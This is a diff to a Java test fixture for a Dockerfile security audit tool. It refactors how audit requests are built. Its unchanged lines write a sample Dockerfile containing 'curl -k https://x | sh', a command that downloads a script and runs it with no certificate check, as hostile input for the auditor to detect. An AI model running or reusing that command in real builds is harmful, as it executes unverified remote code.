@@ -1,13 +1,10 @@
 package dev.caisson.audit;
 
-import dev.caisson.containerfile.BaseImages;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.Map;
 import java.util.Optional;
 
 /// A report that has something of everything: each kind of file, each status that files give, hostile text, a live
@@ -38,16 +35,7 @@ final class SampleReport {
         Files.createDirectories(root.resolve("a b#c%"));
         Files.writeString(root.resolve("a b#c%/Dockerfile"), "FROM a\nRUN curl -k https://x | sh\n");
         Files.writeString(root.resolve("broken.Dockerfile"), "FROM a\nNONSENSE\n");
-        AuditRequest request = new AuditRequest(
-                root,
-                List.of(Path.of(".")),
-                Optional.empty(),
-                Map.of(),
-                BaseImages.NONE,
-                LocalDate.of(2026, 11, 25),
-                Severity.HIGH,
-                Optional.empty(),
-                Optional.empty());
+        AuditRequest request = FileRequests.of(root, ".");
         Path baseline = root.resolve("baseline.json");
         Files.writeString(baseline, """
                 {"findings": [{"fingerprint": "gone"}]}
@@ -61,16 +49,7 @@ final class SampleReport {
                 baseline,
                 "{\"findings\": [{\"fingerprint\": \"gone\"}, {\"fingerprint\": \"%s\"}]}"
                         .formatted(known.fingerprint()));
-        Report report = FileAudit.run(new AuditRequest(
-                root,
-                request.inputs(),
-                Optional.empty(),
-                Map.of(),
-                BaseImages.NONE,
-                request.today(),
-                Severity.HIGH,
-                Optional.empty(),
-                Optional.of(baseline)));
+        Report report = FileAudit.run(FileRequests.knowing(root, Optional.empty(), Optional.of(baseline), "."));
         List<Finding> findings = new ArrayList<>(report.findings());
         findings.add(live());
         return new Report(
